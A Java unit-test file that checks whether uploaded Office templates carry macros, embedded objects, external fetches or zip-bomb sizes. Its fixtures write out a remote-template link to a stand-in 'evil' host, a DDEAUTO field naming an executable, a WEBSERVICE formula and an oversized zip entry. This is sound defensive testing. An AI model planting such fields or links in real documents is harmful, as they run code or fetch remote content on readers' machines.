package jingtu.server.document.template;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;

/** What a template may not bring along. */
class TemplateSafetyTests {

  @Test
  void textTablesPicturesAndHyperlinksMayCome() {
    XWPFDocument word = WordTemplateTests.template();
    word.createParagraph().createHyperlinkRun("https://example.org/").setText("网址");

    assertThat(TemplateSafety.check(Sample.bytes(word))).isEmpty();
    assertThat(TemplateSafety.check(Sample.bytes(SheetTemplateTests.template()))).isEmpty();
  }

  @Test
  void macrosAreRefusedUnderWhateverName() throws IOException {
    byte[] macros =
        changed(
            "[Content_Types].xml",
            xml ->
                xml.replace(
                    "wordprocessingml.document.main+xml",
                    "wordprocessingml.document.macroEnabled.main+xml"));

    assertThat(problems(macros)).contains("template.macros");
    byte[] project =
        changed(
            "[Content_Types].xml",
            xml ->
                xml.replace(
                    "</Types>",
                    "<Override PartName=\"/word/x.bin\""
                        + " ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"),
            "word/x.bin");
    assertThat(problems(project)).contains("template.macros");
  }

  @Test
  void whatIsFetchedFromElsewhereIsRefused() throws IOException {
    assertThat(
            problems(
                changed(
                    "word/_rels/document.xml.rels",
                    xml ->
                        xml.replace(
                            "</Relationships>",
                            "<Relationship Id=\"rIdX\" TargetMode=\"External\""
                                + " Target=\"file://evil/normal.dotm\" Type=\"http://schemas."
                                + "openxmlformats.org/officeDocument/2006/relationships/"
                                + "attachedTemplate\"/></Relationships>"))))
        .containsExactly("template.external");
    XWPFDocument field = new XWPFDocument();
    var run = field.createParagraph().createRun().getCTR();
    run.addNewInstrText().setStringValue(" DDEA");
    run.addNewInstrText().setStringValue("UTO c:\\\\x.exe ");
    assertThat(problems(Sample.bytes(field))).containsExactly("template.external");
    var book = SheetTemplateTests.template();
    book.getSheetAt(0)
        .createRow(20)
        .createCell(0)
        .getCTCell()
        .addNewF()
        .setStringValue("WEBSERVICE(\"http://example.org\")");
    assertThat(problems(Sample.bytes(book))).containsExactly("template.external");
  }

  @Test
  void embeddedObjectsAreRefused() throws IOException {
    byte[] embedded =
        changed(
            "[Content_Types].xml",
            xml ->
                xml.replace(
                    "</Types>",
                    "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-"
                        + "officedocument.oleObject\"/></Types>"),
            "word/embeddings/oleObject1.bin");

    assertThat(problems(embedded)).containsExactly("template.embedded");
  }

  @Test
  void aDamagedOrHugeFileIsRefusedInWords() {
    byte[] whole = Sample.bytes(new XWPFDocument());

    assertThat(problems(Arrays.copyOf(whole, whole.length / 2)))
        .containsExactly("template.unreadable");
    assertThat(problems("{{计划名称}}".getBytes(UTF_8))).containsExactly("template.unreadable");
    assertThat(problems(new byte[TemplateSafety.LARGEST_BYTES + 1]))
        .containsExactly("template.too-large");
  }

  @Test
  void aFileThatUnpacksToFarMoreThanItSeemsIsRefused() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry("word/document.xml"));
      byte[] zeros = new byte[1024 * 1024];
      for (int i = 0; i < 70; i++) {
        zip.write(zeros);
      }
    }

    assertThat(problems(bytes.toByteArray())).containsExactly("template.too-large");
  }

  private static List<String> problems(byte[] content) {
    return TemplateSafety.check(content).stream().map(f -> f.problem().key()).distinct().toList();
  }

  /** A Word file in which one part was changed and empty others were added. */
  private static byte[] changed(String part, UnaryOperator<String> change, String... added)
      throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    byte[] word = Sample.bytes(WordTemplateTests.template());
    try (ZipInputStream from = new ZipInputStream(new ByteArrayInputStream(word));
        ZipOutputStream to = new ZipOutputStream(bytes)) {
      for (ZipEntry entry = from.getNextEntry(); entry != null; entry = from.getNextEntry()) {
        String text = new String(from.readAllBytes(), UTF_8);
        if (!entry.getName().endsWith(".png")) {
          to.putNextEntry(new ZipEntry(entry.getName()));
          String now = entry.getName().equals(part) ? change.apply(text) : text;
          to.write(now.getBytes(UTF_8));
        }
      }
      for (String name : added) {
        to.putNextEntry(new ZipEntry(name));
        to.write(1);
      }
    }
    return bytes.toByteArray();
  }
}
